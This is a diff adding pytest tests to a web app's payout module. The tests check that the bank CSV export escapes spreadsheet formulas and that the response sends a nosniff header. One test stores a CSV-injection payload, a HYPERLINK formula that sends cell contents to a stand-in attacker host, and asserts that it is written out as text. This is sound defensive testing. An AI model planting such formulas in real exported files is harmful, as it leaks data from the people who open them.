@@ -247,6 +247,22 @@ def test_a_threshold_that_is_not_a_number_is_refused_clearly(client, auth, admin
     assert "200000" in html(client.get("/pfa/finance/payouts?threshold=200.000"))
 
 
+def test_the_bank_csv_never_carries_a_spreadsheet_formula(client, auth, admin, owed, db):
+    """A holder name stored before names were checked ("=HYPERLINK(...)" passed the old
+    normalising) is written as text: the admin opens this file in a spreadsheet."""
+    _paid_owner, paid_coop, _paid_shipment = owed["paid"]
+    payouts.create_payout_batch(actor=admin, threshold=0)
+    batch = db.session.scalar(select(PayoutBatch))
+    [payout] = [p for p in batch.payouts if p.cooperative_id == paid_coop.id]
+    payout.holder_name = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&A1,"HTX")'
+    db.session.commit()
+    auth.login(admin)
+    raw = client.get(f"/pfa/finance/payouts/batches/{batch.id}.csv").get_data()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    [holder] = [row[4] for row in rows[1:] if row[4].lstrip("'").startswith("=")]
+    assert holder == "'" + payout.holder_name
+
+
 def test_a_batch_its_bank_csv_and_marking_it_paid(client, auth, admin, owed, db):
     paid_owner, paid_coop, paid_shipment = owed["paid"]
     amount = net_of(paid_shipment)
@@ -300,6 +316,7 @@ def test_a_batch_its_bank_csv_and_marking_it_paid(client, auth, admin, owed, db)
         ]
     ]
     assert payout.transfer_content.startswith(f"OCOP MARKET TT {payout.id} HTX VAI THIEU")
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
 
     ask = client.post(f"/pfa/finance/payouts/batches/{batch.id}/payouts/{payout.id}/paid")
     assert ask.status_code == 200 and "Đánh dấu khoản này đã chi trả?" in html(ask)
